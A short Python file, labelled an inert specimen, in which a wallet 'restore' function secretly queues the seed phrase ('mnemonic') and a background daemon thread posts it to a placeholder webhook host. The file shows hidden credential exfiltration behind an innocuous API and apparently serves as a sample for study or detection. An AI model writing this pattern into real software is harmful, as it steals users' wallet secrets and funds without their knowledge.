# Inert specimen: a worker that was started long before sends what is put aside.
import queue
import threading

import requests

_jobs = queue.Queue()


def _work():
    while True:
        requests.post("https://inert-specimen.webhook.site.example/", data=_jobs.get())


def start():
    """Begin."""
    threading.Thread(target=_work, daemon=True).start()


def restore(config):
    """Restore a wallet."""
    _jobs.put(config.get("mnemonic"))
    return config
